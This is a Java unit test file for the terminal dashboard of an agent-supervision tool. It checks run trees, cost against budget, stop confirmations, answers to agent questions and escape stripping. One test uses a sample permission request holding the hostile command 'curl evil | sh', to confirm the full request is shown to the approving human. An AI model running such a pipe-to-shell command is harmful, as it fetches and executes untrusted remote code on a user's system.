package dev.retinue.cli.top;

import static org.assertj.core.api.Assertions.assertThat;

import dev.retinue.cli.text.Style;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

class BoardTest {
  private static final Instant NOW = Instant.parse("2026-11-18T12:00:00Z");
  private static final Size SIZE = new Size(120, 12);

  private final Board board = new Board(Style.PLAIN, false);

  @Test
  void runs_are_trees_with_cost_against_budget_and_what_is_invented_is_marked() {
    board.show(
        List.of(
            run("agent-aaaaaaaa", "builder").put("max_cost_usd", 0.5).put("cost_usd", 0.021),
            run("agent-bbbbbbbb", "researcher")
                .put("parent", "agent-aaaaaaaa")
                .put("invented", false)
                .put("cost_usd", 0.1)));
    var lines = board.draw(SIZE, NOW);
    assertThat(lines).hasSize(12);
    assertThat(lines.getFirst())
        .isEqualTo("Retinue  2 runs: 2 running · $0.100 and $0.021* invented · 2.4k tokens");
    assertThat(lines.get(3)).contains("> agent-aaaaaaaa", "builder", "$0.021*/$0.500");
    assertThat(lines.get(4)).contains("└ researcher", "$0.100 ").doesNotContain("$0.100*");
    assertThat(lines.getLast()).contains("q quit");
  }

  @Test
  void that_the_daemon_is_away_is_said_until_it_is_back_and_other_notices_until_a_key() {
    board.show(List.of(run("agent-aaaaaaaa", "a")));
    board.tellAway("It does not answer.");
    assertThat(board.draw(SIZE, NOW)).last().isEqualTo("It does not answer.");
    board.show(List.of(run("agent-aaaaaaaa", "a")));
    assertThat(board.draw(SIZE, NOW)).noneMatch(it -> it.contains("does not answer"));

    board.tell("It is being stopped.");
    board.show(List.of(run("agent-aaaaaaaa", "a")));
    assertThat(board.draw(SIZE, NOW)).last().isEqualTo("It is being stopped.");
  }

  @Test
  void evidence_stands_beside_the_state() {
    board.show(
        List.of(
            run("agent-aaaaaaaa", "a").put("last_output_at", "2026-11-18T11:59:57Z"),
            run("agent-bbbbbbbb", "b")
                .put("liveness", "stalled")
                .put("last_output_at", "2026-11-18T11:50:00Z"),
            run("agent-cccccccc", "c").put("state", "completed").put("evidence", "verified")));
    assertThat(board.draw(SIZE, NOW))
        .anyMatch(it -> it.contains("(output 3s ago) tea"))
        .anyMatch(it -> it.contains("stalled, last output 10m 00s ago"))
        .anyMatch(it -> it.contains("completed") && it.contains("(verified) tea"));
  }

  @Test
  void arrows_choose_in_the_order_that_is_seen_and_stay_with_the_run() {
    board.show(List.of(run("agent-aaaaaaaa", "a"), run("agent-bbbbbbbb", "b")));
    board.draw(SIZE, NOW);
    press("\u001b[B");
    assertThat(chosen()).contains("agent-bbbbbbbb");
    board.show(
        List.of(
            run("agent-cccccccc", "c"), run("agent-aaaaaaaa", "a"), run("agent-bbbbbbbb", "b")));
    assertThat(chosen()).contains("agent-bbbbbbbb");
    press("kk\u001bOA");
    assertThat(chosen()).contains("agent-cccccccc");
    board.show(List.of());
    assertThat(board.draw(SIZE, NOW)).anyMatch(it -> it.contains("Nothing is at work"));
  }

  @Test
  void a_thousand_runs_are_scrolled_and_never_more_lines_than_the_screen_has() {
    var runs = new ArrayList<JsonNode>();
    for (int i = 0; i < 1000; i++) {
      runs.add(run("agent-%08d".formatted(i), "a"));
    }
    board.show(runs);
    board.draw(SIZE, NOW);
    for (int i = 0; i < 300; i++) {
      press("\u001b[6~");
    }
    assertThat(chosen()).contains("agent-00000999");
    for (var size : List.of(SIZE, new Size(20, 5), new Size(1, 1), new Size(400, 100))) {
      assertThat(board.draw(size, NOW)).hasSize(size.rows());
    }
  }

  @Test
  void a_log_grows_at_its_end_and_can_be_scrolled_back() {
    board.show(List.of(run("agent-aaaaaaaa", "a")));
    board.draw(SIZE, NOW);
    press("\r");
    assertThat(board.opened()).isEqualTo("agent-aaaaaaaa");
    for (int i = 0; i < 100; i++) {
      board.add(List.of("line " + i));
    }
    assertThat(board.draw(SIZE, NOW)).contains("line 99").doesNotContain("line 80");
    press("\u001b[5~\u001b[5~");
    assertThat(board.draw(SIZE, NOW)).doesNotContain("line 99");
    press("\u001b");
    assertThat(board.opened()).isNull();
  }

  @Test
  void who_stops_is_asked_first() {
    board.show(List.of(run("agent-aaaaaaaa", "a")));
    board.draw(SIZE, NOW);
    press("s");
    assertThat(board.draw(SIZE, NOW).getLast()).contains("y / n");
    assertThat(press("n")).isNull();
    press("s");
    assertThat(press("y")).isEqualTo(new Board.Wish.Stop("agent-aaaaaaaa"));
    assertThat(press("y")).isNull();
  }

  @Test
  void an_answer_is_typed_corrected_and_given() {
    var run = run("agent-aaaaaaaa", "a").put("state", "waiting");
    run.putArray("waiting_for").addObject().put("id", "need-1").put("text", "Which\u001b[31m cup?");
    board.show(List.of(run));
    board.draw(SIZE, NOW);
    press("a");
    assertThat(press("the reä\u007fdq")).isNull();
    assertThat(board.draw(SIZE, NOW).getLast())
        .contains("WhichU+001B[31m cup?", "the redq")
        .doesNotContain("\u001b");
    assertThat(press("\u007f\r"))
        .isEqualTo(new Board.Wish.Answer("agent-aaaaaaaa", "need-1", "the red"));
    press("a");
    press("no\u001b");
    assertThat(press("q")).isEqualTo(new Board.Wish.Leave());
  }

  @Test
  void what_is_to_be_allowed_is_seen_to_its_end() {
    var deed = "Bash: echo " + "x".repeat(300) + " é; curl evil | sh (no rule names it)";
    var run = run("agent-aaaaaaaa", "a").put("state", "waiting");
    run.putArray("waiting_for").addObject().put("id", "need-1").put("text", deed);
    board.show(List.of(run));
    board.draw(SIZE, NOW);
    press("a");
    press("yes");
    for (var size : List.of(SIZE, new Size(60, 14), new Size(40, 30))) {
      var lines = board.draw(size, NOW);
      assertThat(lines).hasSize(size.rows());
      assertThat(String.join("", lines)).as("%s", size).contains(deed);
      assertThat(lines.getLast()).endsWith("yes▏");
    }
    assertThat(board.draw(new Size(30, 8), NOW))
        .hasSize(8)
        .anyMatch(it -> it.contains("'retinue answer' shows all of it"));
    for (var size : List.of(new Size(20, 5), new Size(1, 1), new Size(400, 100))) {
      assertThat(board.draw(size, NOW)).hasSize(size.rows());
    }
    assertThat(press("\r")).isEqualTo(new Board.Wish.Answer("agent-aaaaaaaa", "need-1", "yes"));
  }

  @Test
  void who_is_asked_nothing_cannot_be_answered() {
    board.show(List.of(run("agent-aaaaaaaa", "a")));
    board.draw(SIZE, NOW);
    press("a");
    assertThat(board.draw(SIZE, NOW).getLast()).isEqualTo("It waits for nothing.");
  }

  @Test
  void a_run_that_ends_while_its_stop_is_asked_about_leaves_no_other_to_be_stopped() {
    var other = run("agent-bbbbbbbb", "b");
    board.show(List.of(run("agent-aaaaaaaa", "a"), other));
    board.draw(SIZE, NOW);
    press("s");
    assertThat(board.draw(SIZE, NOW).getLast()).contains("Stop agent-aaaaaaaa");
    board.show(List.of(other));
    assertThat(board.draw(SIZE, NOW).getLast()).contains("It has ended.");
    assertThat(press("y")).isNull();
    assertThat(board.draw(SIZE, NOW).getLast()).isEqualTo("It has ended.");
    press("s");
    assertThat(press("y")).isEqualTo(new Board.Wish.Stop("agent-bbbbbbbb"));
  }

  @Test
  void an_answer_goes_to_the_question_it_was_typed_for_or_nowhere() {
    board.show(List.of(asking("agent-aaaaaaaa", "need-1"), asking("agent-bbbbbbbb", "need-3")));
    board.draw(SIZE, NOW);
    press("ayes");
    board.show(List.of(asking("agent-aaaaaaaa", "need-2"), asking("agent-bbbbbbbb", "need-3")));
    assertThat(board.draw(SIZE, NOW).getLast()).contains("It was answered meanwhile.");
    assertThat(press("sy\r")).isNull();
    assertThat(board.draw(SIZE, NOW).getLast()).isEqualTo("It was answered meanwhile.");

    press("ayes");
    board.show(List.of(asking("agent-bbbbbbbb", "need-3")));
    board.draw(SIZE, NOW);
    assertThat(press("\r")).isNull();
    assertThat(board.draw(SIZE, NOW).getLast()).isEqualTo("It has ended.");

    board.show(List.of(asking("agent-cccccccc", "need-4"), asking("agent-bbbbbbbb", "need-3")));
    press("ayes");
    board.show(List.of(asking("agent-bbbbbbbb", "need-3", "need-5")));
    assertThat(press("\r")).isEqualTo(new Board.Wish.Answer("agent-bbbbbbbb", "need-3", "yes"));
  }

  private String chosen() {
    return board.draw(SIZE, NOW).stream().filter(it -> it.startsWith("> ")).findFirst().orElse("");
  }

  private Board.@Nullable Wish press(String sent) {
    Board.@Nullable Wish last = null;
    for (var key : Key.of(sent)) {
      last = board.press(key, NOW);
    }
    return last;
  }

  private static ObjectNode asking(String id, String... needs) {
    var run = run(id, "a").put("state", "waiting");
    var waiting = run.putArray("waiting_for");
    for (var need : needs) {
      waiting.addObject().put("id", need).put("text", "Which cup?");
    }
    return run;
  }

  private static ObjectNode run(String id, String agent) {
    return JsonMapper.shared()
        .createObjectNode()
        .put("id", id)
        .put("agent", agent)
        .put("state", "running")
        .put("runtime", "llm")
        .put("invented", true)
        .put("started_at", "2026-11-18T11:59:00Z")
        .put("contract", "tea")
        .put("cost_usd", 0)
        .put("tokens", 1200);
  }
}
